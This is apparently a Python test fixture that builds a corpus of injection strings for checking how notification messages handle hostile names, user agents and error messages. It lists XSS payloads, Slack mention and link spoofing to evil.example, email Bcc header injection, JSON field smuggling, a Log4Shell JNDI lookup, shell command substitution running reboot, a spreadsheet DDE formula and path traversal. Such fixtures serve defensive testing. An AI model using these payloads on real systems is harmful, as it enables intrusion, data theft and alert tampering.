"""Texts that somebody could choose as a name, a user agent or an error message, to act where a notice is read.

Each of a few dozen attacks in each of several places: at the beginning, in the midst and at the end of a name, doubled,
cut off, and written in the escapes of the formats that a notice goes through.
"""

from __future__ import annotations

import json
from html import escape
from urllib.parse import quote

from builders import HOSTILE

ATTACKS = (
    *HOSTILE,
    "<!here>",
    "<@U024BE7LH>",
    "<#C024BE7LR|general>",
    "<!subteam^S123|admins>",
    "<https://evil.example|IAM console>",
    "[IAM console](https://evil.example)",
    "![x](https://evil.example/pixel)",
    "*bold* _it_ ~no~ `code` ```pre```",
    "# heading",
    "| a | b |",
    "<at>everyone</at>",
    '"><img src=x onerror=alert(1)>',
    "</td></table></body></html><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<!--",
    "]]>",
    "a\r\nBcc: eve@example.com",
    "a\r\n\r\nbody of its own",
    "=?utf-8?q?=0d=0aBcc:_eve@example.com?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBleGFtcGxlLmNvbQ==?=",
    '","severity":"info',
    '"}],"routing_key":"theirs',
    "\\u0022,\\u0022event_action\\u0022:\\u0022resolve",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {%raw%}",
    "$(reboot) `reboot` ; reboot",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
    "%0d%0aSet-Cookie:x",
)
PLACES = (
    lambda text: text,
    lambda text: f"bob{text}",
    lambda text: f"{text}bob",
    lambda text: text * 2,
    lambda text: text[: len(text) // 2 + 1],
    escape,
    lambda text: json.dumps(text)[1:-1],
    lambda text: quote(text, errors="replace"),
)
CORPUS = tuple(dict.fromkeys(place(text) for text in ATTACKS for place in PLACES))
